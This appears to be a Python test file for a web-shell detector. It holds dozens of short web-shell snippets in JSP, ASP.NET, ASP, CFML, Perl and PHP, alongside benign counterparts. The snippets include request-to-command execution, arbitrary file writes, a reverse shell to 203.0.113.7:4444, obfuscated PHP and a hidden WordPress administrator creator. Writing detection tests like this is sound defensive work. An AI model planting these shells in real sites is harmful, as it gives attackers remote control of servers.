"""Per-language behaviour rules of the web-shell assessor (JSP/JSPX, ASP.NET, classic ASP, CFML,
Perl CGI, and PHP behaviours beyond the superglobal flow).

Every snippet below was written for this test (none is a corpus file): each shows one behaviour
and must be called a web shell with a reason that names the behaviour; each benign counterpart is
what a real admin or application page doing a similar job looks like, and must stay below the
threshold. The corpus test measures recall per language over the three shared corpora (read as
bytes only, never executed) against floors pinned from the measured figures.
"""

from __future__ import annotations

import hashlib
import os
import tomllib
from collections import defaultdict
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path
from types import ModuleType

import pytest

from seawall.features.webshell import THRESHOLD, assess, read_head, web_files
from tests.conftest import shared

# (file name, bytes, a phrase the reasons must contain)
SHELLS: dict[str, tuple[str, bytes, str]] = {
    "jsp_runtime_exec": (
        "a.jsp",
        b'<% String c = request.getParameter("c");\n'
        b'   Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", c}); %>',
        "request data → Runtime.exec (OS command)",
    ),
    "jsp_process_builder_split": (
        "b.jsp",
        b'<% final String q = request.getParameter("q");\n'
        b'   java.util.List<String> parts = java.util.Arrays.asList(q.split(" "));\n'
        b"   Process p = new ProcessBuilder(parts).redirectErrorStream(true).start(); %>",
        "ProcessBuilder (OS command)",
    ),
    "jsp_file_write": (
        "c.jsp",
        b"<% java.io.FileOutputStream o = new java.io.FileOutputStream(\n"
        b'      application.getRealPath("/") + request.getParameter("n"));\n'
        b'   o.write(request.getParameter("b").getBytes()); o.close(); %>',
        "file written at a request-chosen path",
    ),
    "jsp_define_class": (
        "d.jsp",
        b"<%! class K extends ClassLoader {\n"
        b"      K(ClassLoader p) { super(p); }\n"
        b"      public Class<?> g(byte[] b) { return super.defineClass(b, 0, b.length); }\n"
        b'} %><% byte[] k = java.util.Base64.getDecoder().decode(request.getParameter("k"));\n'
        b"new K(getClass().getClassLoader()).g(k).newInstance(); %>",
        "defineClass (class loader",
    ),
    "jsp_script_engine": (
        "e.jsp",
        b'<% Object r = new javax.script.ScriptEngineManager().getEngineByName("js")\n'
        b'      .eval(request.getParameter("e")); out.print(r); %>',
        "ScriptEngine.eval",
    ),
    "jsp_jndi": (
        "f.jsp",
        b'<% String u = request.getParameter("u");\n'
        b"   Object o = new javax.naming.InitialContext().lookup(u); %>",
        "JNDI lookup of a request-chosen name",
    ),
    "jsp_jdbc_password": (
        "g.jsp",
        b'<% String pw = request.getParameter("pw");\n'
        b"   java.sql.Connection c = java.sql.DriverManager.getConnection(\n"
        b'       request.getParameter("url"), "sa", pw); %>',
        "JDBC connection to a request-supplied database",
    ),
    "jsp_el_runtime": (
        "h.jsp",
        b'<p>${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)'
        b".exec(param.c)}</p>",
        "EL expression that reaches Runtime",
    ),
    "jsp_bcel": (
        "i.jsp",
        b"<% new com.sun.org.apache.bcel.internal.util.ClassLoader()"
        b'.loadClass("$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dU").newInstance(); %>',
        "BCEL",
    ),
    "jsp_tunnel": (
        "j.jsp",
        b'<% String host = request.getHeader("X-Target");\n'
        b'   int port = Integer.parseInt(request.getHeader("X-Port"));\n'
        b"   java.net.Socket s = new java.net.Socket(host, port); %>",
        "socket to a request-chosen host",
    ),
    "jspx_runtime": (
        "k.jspx",
        b'<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>'
        b"Runtime.getRuntime().exec(request.getParameter(&quot;x&quot;));"
        b"</jsp:scriptlet></jsp:root>",
        "Runtime.exec",
    ),
    "aspx_process_textbox": (
        "l.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Go(object s, EventArgs e) {\n"
        b'  var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe");\n'
        b'  psi.Arguments = "/c " + this.Cmd.Text;\n'
        b"  System.Diagnostics.Process.Start(psi);\n"
        b'}</script><form runat="server"><asp:TextBox id="Cmd" runat="server"/></form>',
        "System.Diagnostics.Process (OS command)",
    ),
    "asmx_web_method": (
        "m.asmx",
        b'<%@ WebService Language="C#" Class="Svc" %>\n'
        b"public class Svc : System.Web.Services.WebService {\n"
        b"  [WebMethod] public string Run(string line) {\n"
        b'    var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + line);\n'
        b"    return p.StandardOutput.ReadToEnd(); } }",
        "request data → System.Diagnostics.Process",
    ),
    "ashx_assembly_load": (
        "n.ashx",
        b'<%@ WebHandler Language="C#" Class="H" %>\n'
        b"public class H : System.Web.IHttpHandler {\n"
        b"  public void ProcessRequest(System.Web.HttpContext context) {\n"
        b"    System.Reflection.Assembly.Load(System.Convert.FromBase64String("
        b'context.Request.Form["p"])).CreateInstance("X"); }\n'
        b"  public bool IsReusable { get { return false; } } }",
        "Assembly.Load",
    ),
    "aspx_writer": (
        "o.aspx",
        b'<%@ Page Language="C#" %><% var w = new System.IO.StreamWriter(Request.Form["path"]);\n'
        b'w.Write(Request.Form["text"]); w.Close(); %>',
        "file written at a request-chosen path",
    ),
    "aspx_db_manager": (
        "p.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Q(object s, EventArgs e) {\n"
        b"  var c = new System.Data.SqlClient.SqlConnection();\n"
        b'  c.ConnectionString = "Server=" + Host.Value + ";User Id=sa;Password=" + Pw.Value;\n'
        b"  c.Open(); new System.Data.SqlClient.SqlCommand(Sql.Value, c).ExecuteNonQuery();\n"
        b'}</script><input id="Host" runat="server"/><input id="Pw" runat="server"/>'
        b'<input id="Sql" runat="server"/>',
        "database connection to a request-supplied server",
    ),
    "aspx_utf16": (
        "q.aspx",
        '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>'.encode("utf-16"),
        "eval",
    ),
    "asp_db_connection": (
        "r.asp",
        b'<% Set cn = Server.CreateObject("ADODB.Connection")\n'
        b'cn.Open Request("dsn")\n'
        b'Set rs = cn.Execute(Request("q")) %>',
        "ADODB connection to a request-supplied database",
    ),
    "asp_plants_script": (
        "s.asp",
        b'<% t = Request.Form("t")\n'
        b'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
        b'Set f = fs.CreateTextFile(Server.MapPath("help.asp"), True)\n'
        b"f.Write t\nf.Close %>",
        "into a server script",
    ),
    "asp_includes_text_file": (
        "t.asp",
        b'<!--#include file="notes.txt"-->',
        "runs a data file as code",
    ),
    "cfml_cfexecute": (
        "u.cfm",
        b'<cfif isDefined("form.c")><cfexecute name="cmd.exe" arguments="/c #form.c#"'
        b' timeout="5" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>',
        "request data → ColdFusion cfexecute (OS command)",
    ),
    "cfml_cffile_write": (
        "v.cfm",
        b'<cfset target = form.path><cffile action="write" file="#target#" output="#form.body#">',
        "ColdFusion cffile write",
    ),
    "cfml_query": (
        "w.cfm",
        b'<cfquery name="q" datasource="#form.ds#">#preserveSingleQuotes(form.sql)#</cfquery>',
        "ColdFusion cfquery on a request-chosen data source",
    ),
    "cfml_encoded": (
        "x.cfm",
        b"Allaire Cold Fusion Template\nHeader Size: New Version\n\x8f\x1e\xa9\x02\x11",
        "cfencode",
    ),
    "perl_backticks": (
        "y.cgi",
        b"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\n"
        b'print "Content-type: text/plain\\n\\n", `$c 2>&1`;\n',
        "request data → system()/exec()/backticks/pipe open",
    ),
    "perl_query_parser_pipe": (
        "z.pl",
        b"#!/usr/bin/perl\n$buf = $ENV{'QUERY_STRING'};\nforeach $kv (split(/&/, $buf)) {\n"
        b"  ($k, $v) = split(/=/, $kv);\n  $v =~ s/%(..)/pack('C', hex($1))/eg;\n"
        b'  $in{$k} = $v;\n}\nopen(P, "$in{cmd} |");\nprint <P>;\n',
        "request data → system()/exec()/backticks/pipe open",
    ),
    "perl_open3_shell": (
        "aa.cgi",
        b"#!/usr/bin/perl\nuse CGI qw(param);\nuse IPC::Open3;\nmy $line = param('line');\n"
        b'my $pid = open3(\\*IN, \\*OUT, \\*ERR, "/bin/sh");\nprint IN "$line\\n";\n',
        "IPC::Open3 running a shell",
    ),
    "php_register_globals": (
        "bb.php",
        b'<form method="post"><input name="todo"></form>\n'
        b"<?php if (!empty($todo)) { echo '<pre>'; passthru($todo . ' 2>&1'); } ?>",
        "through register_globals",
    ),
    "php_socket_commands": (
        "cc.php",
        b'<?php $s = fsockopen("203.0.113.7", 4444);\n'
        b"while (!feof($s)) { $line = fgets($s, 1024); fwrite($s, shell_exec($line)); } ?>",
        "commands read from a network socket",
    ),
    "php_listener": (
        "dd.php",
        b"<?php set_time_limit(0); $l = socket_create(AF_INET, SOCK_STREAM, 0);\n"
        b'socket_bind($l, "0.0.0.0", 1080); socket_listen($l);\n'
        b"while ($c = socket_accept($l)) { socket_write($c, 'hi'); } ?>",
        "listens for network connections with no time limit",
    ),
    "php_property": (
        "ee.php",
        b"<?php class T { var $line; function go() { system($this->line); } }\n"
        b"$t = new T(); $t->line = $_POST['l']; $t->go(); ?>",
        "request data stored in an object property reaches system()",
    ),
    "php_db_dump": (
        "ff.php",
        b"<?php $h = $_POST['h']; $link = mysqli_connect($h, $_POST['u'], $_POST['p']);\n"
        b"$r = mysqli_query($link, 'SHOW DATABASES'); ?>",
        "database connection to a request-supplied server",
    ),
    "php_letterless": (
        "gg.php",
        b"<?php\n$_=[];$__=@$_;$__=$__.'';$___=($__[0]^'{');$____=($__[1]^'[');"
        b"$_____=$___.$____.($__[2]^'/').($__[3]^'$');$_[+!+[]]=$_____;$______=$__[4]^'*';"
        b"$_[$______]=$__;$_[$__[0]]=$__;$_[+!+[]]($_[$______]);$_[$__[0]]($_[+!+[]]);\n?>",
        "PHP written without letters",
    ),
    "php_includes_image": (
        "hh.php",
        b"<?php include 'images/logo_small.gif'; ?>",
        "runs a data file as code",
    ),
    "php_admin_account": (
        "ii.php",
        b"<?php add_action('init', function () { if (isset($_GET['k'])) {\n"
        b"  $id = wp_create_user($_GET['u'], $_GET['p']); $u = new WP_User($id);\n"
        b"  $u->set_role('administrator'); } }); ?>",
        "makes it an administrator",
    ),
}

BENIGN: dict[str, tuple[str, bytes]] = {
    "jsp_exec_constant": (
        "uptime.jsp",
        b'<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec("uptime");\n'
        b"BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n"
        b'String user = request.getParameter("who"); %><p><%= r.readLine() %></p>',
    ),
    "jsp_upload_validated": (
        "upload.jsp",
        b'<%@ page import="java.io.*,java.util.*,org.apache.commons.fileupload.*" %>\n'
        b"<% List<FileItem> items = new ServletFileUpload(new DiskFileItemFactory())"
        b".parseRequest(request);\n"
        b"for (FileItem item : items) {\n"
        b"  String name = FilenameUtils.getName(item.getName());\n"
        b'  if (!name.matches("[A-Za-z0-9_.-]+\\\\.(png|jpg)")) { continue; }\n'
        b'  try (FileOutputStream out = new FileOutputStream(new File("/srv/uploads", name))) {\n'
        b"    out.write(item.get());\n  }\n} %>",
    ),
    "jsp_jndi_constant": (
        "ds.jsp",
        b"<% javax.sql.DataSource ds = (javax.sql.DataSource) new javax.naming.InitialContext()"
        b'.lookup("java:comp/env/jdbc/app");\n'
        b'String id = request.getParameter("id"); %>',
    ),
    "aspx_upload": (
        "up.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Save(object s, EventArgs e) {\n"
        b"  if (File1.HasFile) {\n"
        b"    string name = System.IO.Path.GetFileName(File1.FileName);\n"
        b'    if (!name.EndsWith(".pdf")) return;\n'
        b'    File1.SaveAs(Server.MapPath("~/docs/") + name); }\n'
        b'}</script><form runat="server"><asp:FileUpload id="File1" runat="server"/></form>',
    ),
    "aspx_process_constant": (
        "recycle.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Go(object s, EventArgs e) {\n"
        b'  System.Diagnostics.Process.Start("iisreset", "/noforce");\n'
        b'  Status.Text = "done: " + Request.QueryString["from"]; }</script>',
    ),
    "aspx_report_query": (
        "report.aspx",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b"void Load(object s, EventArgs e) {\n"
        b"  var c = new System.Data.SqlClient.SqlConnection(\n"
        b"    System.Configuration.ConfigurationManager"
        b'.ConnectionStrings["app"].ConnectionString);\n'
        b"  var q = new System.Data.SqlClient.SqlCommand(\n"
        b'    "select * from orders where id = @id", c);\n'
        b'  q.Parameters.AddWithValue("@id", Request.QueryString["id"]); }</script>',
    ),
    "asp_parameterised_query": (
        "orders.asp",
        b'<% Set cn = Server.CreateObject("ADODB.Connection")\n'
        b'cn.Open "DSN=shop"\n'
        b'Set rs = cn.Execute("SELECT * FROM orders WHERE id = " & CLng(Request("id"))) %>',
    ),
    "cfml_query_param": (
        "list.cfm",
        b'<cfquery name="q" datasource="shop">SELECT * FROM items WHERE id ='
        b' <cfqueryparam value="#url.id#" cfsqltype="cf_sql_integer"></cfquery>'
        b'<cffile action="upload" filefield="doc" destination="/srv/docs"'
        b' accept="application/pdf">',
    ),
    "perl_list_form_system": (
        "ping.cgi",
        b"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $host = $q->param('host');\n"
        b"if ($host !~ /^[\\w.-]+$/) { die 'bad host' }\n"
        b"system('/bin/ping', '-c', '1', $host);\nprint `uptime`;\n",
    ),
    "php_assigned_form_field": (
        "tool.php",
        b'<form method="post"><input name="page"></form>\n'
        b"<?php $page = isset($_POST['page']) ? basename($_POST['page']) : 'home';\n"
        b"$out = exec('/usr/bin/date'); echo htmlspecialchars($page . $out); ?>",
    ),
    "php_ftp_listener": (
        "ftp.php",
        b"<?php class Ftp { function passive() { $s = socket_create(AF_INET, SOCK_STREAM, 0);\n"
        b"socket_bind($s, $this->host); socket_listen($s); return socket_accept($s); } } ?>",
    ),
    "shtml_text_include": (
        "index.shtml",
        b'<html><body><!--#include virtual="/footer.txt" --></body></html>',
    ),
    "php_db_constant": (
        "db.php",
        b"<?php $link = mysqli_connect('localhost', DB_USER, DB_PASSWORD);\n"
        b"$r = mysqli_query($link, 'SELECT * FROM posts WHERE id = ' . (int) $_GET['id']); ?>",
    ),
}


@pytest.mark.parametrize("case", sorted(SHELLS))
def test_behaviour_is_a_web_shell_with_a_named_reason(case: str) -> None:
    name, data, phrase = SHELLS[case]
    verdict = assess(data, name)
    assert verdict.is_webshell, (case, verdict.score, verdict.reasons)
    assert any(phrase in reason for reason in verdict.reasons), verdict.reasons


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_counterpart_stays_below_the_threshold(case: str) -> None:
    name, data = BENIGN[case]
    verdict = assess(data, name)
    assert verdict.score < THRESHOLD, (case, verdict.reasons)


def test_every_point_of_score_has_a_reason() -> None:
    for name, data, _ in SHELLS.values():
        verdict = assess(data, name)
        assert len(verdict.reasons) >= 1
        assert all(reason.strip() for reason in verdict.reasons)


def test_language_follows_the_extension_and_content_in_another_language_is_read_too() -> None:
    assert assess(b"", "x.cfm").language == "cfml"
    assert assess(b"", "x.asmx").language == "aspx"
    # C# written into a .asp file: the server would refuse it, the shell is still a shell.
    data = (
        b'<%@ Page Language="C#" %><% var w = new System.IO.StreamWriter(Request.Form["p"]);'
        b' w.Write(Request.Form["t"]); %>'
    )
    assert assess(data, "x.asp").is_webshell


# --- real data ------------------------------------------------------------------------------

CORPORA = ("tennc-webshell", "xl7dev-webshell", "threedr3am-jsp-webshells")
LANGUAGE = {
    **dict.fromkeys((".php", ".php3", ".php4", ".php5", ".phtml", ".inc"), "php"),
    **dict.fromkeys((".asp", ".asa", ".cer"), "asp"),
    **dict.fromkeys((".aspx", ".ashx", ".asmx"), "aspx"),
    **dict.fromkeys((".jsp", ".jspx"), "jsp"),
    **dict.fromkeys((".pl", ".cgi"), "perl"),
    **dict.fromkeys((".cfm", ".cfml", ".cfc"), "cfml"),
}
EXCLUDED = Path(__file__).resolve().parents[2] / "benchmarks" / "webshell_excluded.toml"
# Assessor alone, measured 2026-12-06 over the three corpora (`benchmarks/webshell_eval.py`,
# ASSESSOR_VERSION 4), less about one sample each; the issue-13 target is 0.90 where a language
# has >= 20 samples.
FLOORS = {"php": 0.94, "asp": 0.93, "jsp": 0.91, "aspx": 0.87, "perl": 0.90, "cfml": 0.75}


def _is_webshell(item: tuple[bytes, str]) -> bool:
    return assess(*item).is_webshell


def test_recall_per_language_over_the_three_corpora() -> None:
    with EXCLUDED.open("rb") as handle:
        excluded = {e["sha256"] for e in tomllib.load(handle)["excluded"]}
    items: list[tuple[bytes, str]] = []
    languages: list[str] = []
    for corpus in CORPORA:
        folder = shared(f"webshells/{corpus}")
        for path in web_files(sorted(folder.rglob("*"))):
            data = read_head(path)
            language = LANGUAGE.get(path.suffix.lower())
            if language and hashlib.sha256(data).hexdigest() not in excluded:
                items.append((data, path.name))
                languages.append(language)
    with ProcessPoolExecutor(max_workers=min(4, os.cpu_count() or 1)) as pool:
        flags = list(pool.map(_is_webshell, items, chunksize=8))
    counts: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for language, flag in zip(languages, flags, strict=True):
        counts[language][0] += 1
        counts[language][1] += flag
    for language, floor in FLOORS.items():
        total, hit = counts[language]
        assert total > 0, language
        assert hit / total >= floor, f"{language}: {hit}/{total} = {hit / total:.1%} < {floor}"


def test_needed_literals_never_skip_a_rule_that_would_match() -> None:
    from seawall.features.webshell import cfml, classic_asp, dotnet, java, perl, php_behaviour
    from seawall.features.webshell.behaviour import Rule, needed_literals

    rules = [
        rule
        for module in (java, dotnet, perl, cfml, classic_asp, php_behaviour)
        for value in vars(module).values()
        if isinstance(value, tuple)
        for rule in value
        if isinstance(rule, Rule)
    ]
    assert len(rules) > 40
    texts = [data.decode("latin-1").lower() for _, data, _ in SHELLS.values()]
    texts += [data.decode("latin-1").lower() for _, data in BENIGN.values()]
    matched = 0
    for rule in rules:
        needs = needed_literals(rule.pattern.pattern)
        for text in texts:
            if rule.pattern.search(text):
                matched += 1
                assert needs is None or any(word in text for word in needs), rule.key
    assert matched > 30


def _evaluation_module() -> ModuleType:
    """``benchmarks/webshell_eval.py`` (not a package: loaded from its path)."""
    import importlib.util
    import sys

    path = Path(__file__).resolve().parents[2] / "benchmarks" / "webshell_eval.py"
    spec = importlib.util.spec_from_file_location("webshell_eval", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["webshell_eval"] = module
    spec.loader.exec_module(module)
    return module


def test_every_exclusion_names_a_corpus_file_whose_property_holds() -> None:
    ev = _evaluation_module()
    exclusions = ev.load_exclusions()
    assert exclusions and all(e.why and e.prop for e in exclusions.values())
    samples, excluded, missing = ev.corpus(shared("webshells"), exclusions)
    assert not missing
    assert {entry.sha256 for _, entry, _ in excluded} == set(exclusions)
    assert all(check != "PROPERTY FAILS" for _, _, check in excluded)
    assert {s.half for s in samples} == {"seen", "tuning", "holdout"}


def test_tally_combines_a_second_detector(tmp_path: Path) -> None:
    ev = _evaluation_module()
    shell = tmp_path / "a.php"
    shell.write_bytes(b'<?php @eval($_POST["z"]);?>')
    plain = tmp_path / "b.php"
    plain.write_bytes(b"<?php echo 'marker'; ?>")
    samples = [ev.Sample(p, "mine", "php", "tuning") for p in (shell, plain)]
    result = ev.tally(
        samples, malicious=True, others={"grep": lambda data, name: b"marker" in data}
    )
    assert result["lang:php"].flagged == {"assessor": 1, "grep": 1, "both": 2}
    assert result["coll:mine/tuning"].counted == 2
